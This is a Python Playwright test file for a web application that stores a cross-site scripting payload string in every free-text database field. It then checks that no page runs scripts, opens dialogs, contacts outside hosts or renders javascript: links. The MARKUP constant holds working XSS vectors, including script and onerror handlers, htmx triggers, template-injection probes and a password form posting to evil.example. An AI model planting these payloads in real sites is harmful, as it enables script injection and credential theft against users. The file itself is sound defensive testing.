"""What people may store to hurt others: shown as it was typed, on every page, in a real browser."""

import re
from typing import Any
from urllib.parse import urlsplit

import pytest
from flask import Flask
from playwright.sync_api import Page, expect
from sqlalchemy import CheckConstraint, String, select

from p2p.db import db
from p2p.history import nouns, operation, verbs
from p2p.history.values import recorded_columns
from tests import world
from tests.browser import settle
from tests.cast import ADA, PASSWORD
from tests.test_every_page_in_browser import addresses

pytestmark = [pytest.mark.browser, pytest.mark.slow]

#: Of every column as much as fits; the first ones are the worst.
MARKUP = (
    "\"'><x-pwned></x-pwned><img src=/pwned onerror=alert(1)><b hx-get=/pwned hx-trigger=load></b>"
    "<script>alert(2)</script>{{7*7}}${7*7}\u202egnp.exe\u200b"
    "[a](javascript:alert(3)) ![b](/pwned) <javascript:alert(4)> [c](data:text/html,<script>alert(5)</script>)"
    "<svg onload=alert(6)><iframe src=javascript:alert(7)><form action=//evil.example><input name=password>"
)
PAYLOADS = {"markup": MARKUP, "long words": "W" * 4000}
#: Names of things and words of ours, which nobody types.
OURS = {"list_name", "subject_noun", "digest", "media_type", "currency", "zone", "locale"}


def typed(cls: Any) -> list[tuple[str, int]]:
    """The columns of a noun in which people write what they like, with their lengths."""
    checks = " ".join(str(each.sqltext) for each in cls.__table__.constraints if isinstance(each, CheckConstraint))
    checked = set(re.findall(r"\w+", checks))
    found = []
    for name, column in recorded_columns(cls):
        ours = name in OURS | checked or name.endswith(("_folded", "key"))
        if isinstance(column.type, String) and column.type.length and not ours:
            found.append((name, column.type.length))
    return found


def write(payload: str) -> None:
    """Into every text of every record, past all forms; history tells of it, too."""
    for noun, cls in nouns.items():
        fields = [(name, longest) for name, longest in typed(cls) if (noun, name) != ("user", "email")]
        for record in db.session.scalars(select(cls)) if fields else ():
            with operation(f"{noun}.edit" if f"{noun}.edit" in verbs else "exchange.import", by=None):
                for name, longest in fields:
                    own = f"{record.id}"
                    setattr(record, name, own + payload[: longest - len(own)])
                if getattr(record, "kind", "") == "website" or hasattr(record, "website"):
                    setattr(record, "value" if noun == "channel" else "website", f"javascript:alert({record.id})")
    db.session.commit()


class Watched:
    """A page signed in as the administrator; `wrong` is what it did that it should not."""

    def __init__(self, page: Page, server: str) -> None:
        self.page, self.server, self.wrong = page, server, []
        page.on("dialog", self._dialog)
        page.on("request", self._request)
        page.goto(f"{server}/sign-in")
        page.get_by_label("E-mail").fill(ADA.email)
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_url("**/board")

    def _dialog(self, dialog: Any) -> None:
        self.wrong.append(f"{self.page.url}: a dialog says {dialog.message}")
        dialog.dismiss()

    def _request(self, sent: Any) -> None:
        if urlsplit(sent.url).path == "/pwned" or not sent.url.startswith((self.server, "data:", "about:")):
            self.wrong.append(f"{self.page.url}: asks for {sent.url}")

    def look(self) -> None:
        self.wrong += [f"{self.page.url}: {told}" for told in self.page.evaluate(LOOK)]


@pytest.mark.parametrize(("payload", "width"), [("markup", 1360), ("long words", 390)])
def test_nothing_stored_does_anything(app: Flask, live_server: str, new_page: Any, payload: str, width: int) -> None:
    made = world.build()
    write(PAYLOADS[payload])
    pages = addresses(app, made)
    db.session.remove()
    page: Page = new_page(viewport={"width": width, "height": 844})
    watched, shown = Watched(page, live_server), 0
    for address in pages:
        answer = page.goto(live_server + address)
        if not answer or "html" not in answer.headers.get("content-type", ""):
            continue
        settle(page)
        watched.wrong += [f"{address}: {answer.status}"] * (answer.status >= 500)
        watched.look()
        watched.wrong += sideways(page, address)
        shown += PAYLOADS[payload][:8] in page.inner_text("body")
    assert shown > len(pages) / 2, "what was stored is there to be seen"
    assert not watched.wrong, "\n".join(watched.wrong)


def test_nothing_stored_does_anything_where_something_is_done(app: Flask, live_server: str, new_page: Any) -> None:
    """In toasts, in what is suggested while somebody types, in rows and dialogs."""
    made = world.build()
    write(MARKUP)
    db.session.remove()
    page: Page = new_page()
    watched = Watched(page, live_server)
    page.goto(f"{live_server}/parties/{made['lone_party']}")
    page.get_by_role("button", name="Archive").click()
    expect(page.locator("#toast")).to_contain_text("<x-pwned>")
    watched.look()
    page.goto(f"{live_server}/leads/new")
    page.get_by_label("Company").fill(f"{made['party']}{MARKUP}"[:100])
    expect(page.locator("main").get_by_text("<x-pwned>").first).to_be_visible()
    watched.look()
    page.goto(f"{live_server}/leads/")
    page.wait_for_load_state("networkidle")
    page.locator("select[name=priority_id]").first.select_option(index=2)
    expect(page.locator("#toast")).to_contain_text("<x-pwned>")
    page.get_by_role("link", name="Plan").first.click()
    page.wait_for_load_state("networkidle")
    watched.look()
    assert not watched.wrong, "\n".join(watched.wrong)


def sideways(page: Page, address: str) -> list[str]:
    """Set-up shows names of lists in one line: who sets up has a wide screen, and means well."""
    wide = page.evaluate("document.documentElement.scrollWidth > innerWidth")
    return [f"{address}: sticks out sideways"] * (
        wide and not address.startswith(("/setup/", "/history/", "/processes/"))
    )


#: What is wrong with a page as it stands, looked at from within.
LOOK = """() => {
  const found = [];
  if (document.querySelector("x-pwned, iframe, form[action*='evil'], [hx-get='/pwned'], img[src='/pwned']"))
    found.push("something was injected");
  for (const link of document.querySelectorAll("a[href], form[action], [formaction]")) {
    const where = ["href", "formaction", "action"].map((name) => link.getAttribute(name)).find(Boolean) ?? "";
    if (/^\\s*(javascript|data|vbscript):/i.test(where)) found.push("leads to " + where.slice(0, 60));
  }
  return found;
}"""
